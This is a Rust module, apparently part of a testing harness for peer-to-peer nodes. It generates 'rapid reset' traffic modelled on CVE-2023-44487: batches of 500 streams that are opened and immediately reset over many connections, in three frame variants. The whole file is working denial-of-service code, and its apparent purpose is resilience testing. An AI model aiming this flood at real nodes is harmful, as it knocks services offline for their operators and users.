//! Streams that begin and are reset at once, as fast as it goes (CVE-2023-44487 has it of HTTP/2).

use super::misuse::{Misuse, misuse};
use super::raw_frames::{ECHO_LINES, RST, SYN, UPDATE, data, frame};
use super::scene::Scene;

/// Streams in one go.
const AT_ONCE: usize = 500;

/// A proposal that no node supports.
const UNSUPPORTED_LINES: &[u8] = b"\x13/multistream/1.0.0\n\x0c/none/1.0.0\n";

/// What comes between a stream's beginning and its reset.
#[derive(Clone, Copy)]
pub(crate) enum Form {
    /// Nothing: two frames of 12 bytes.
    Bare,
    /// The header and a proposal that is not supported.
    Unsupported,
    /// The header and a proposal that is supported.
    Supported,
}

struct Resets {
    form: Form,
    next: u32,
}

impl Misuse for Resets {
    fn more(&mut self, out: &mut Vec<u8>) {
        for _ in 0..AT_ONCE {
            match self.form {
                Form::Bare => out.extend(frame(UPDATE, SYN, self.next, 0)),
                Form::Unsupported => out.extend(data(SYN, self.next, UNSUPPORTED_LINES)),
                Form::Supported => out.extend(data(SYN, self.next, ECHO_LINES)),
            }
            out.extend(frame(UPDATE, RST, self.next, 0));
            self.next = self.next.wrapping_add(2);
        }
    }
}

/// Resets streams on a number of connections.
pub(crate) fn resets(scene: &Scene, connections: usize, form: Form) {
    misuse(scene, connections, |_| Resets { form, next: 1 });
}
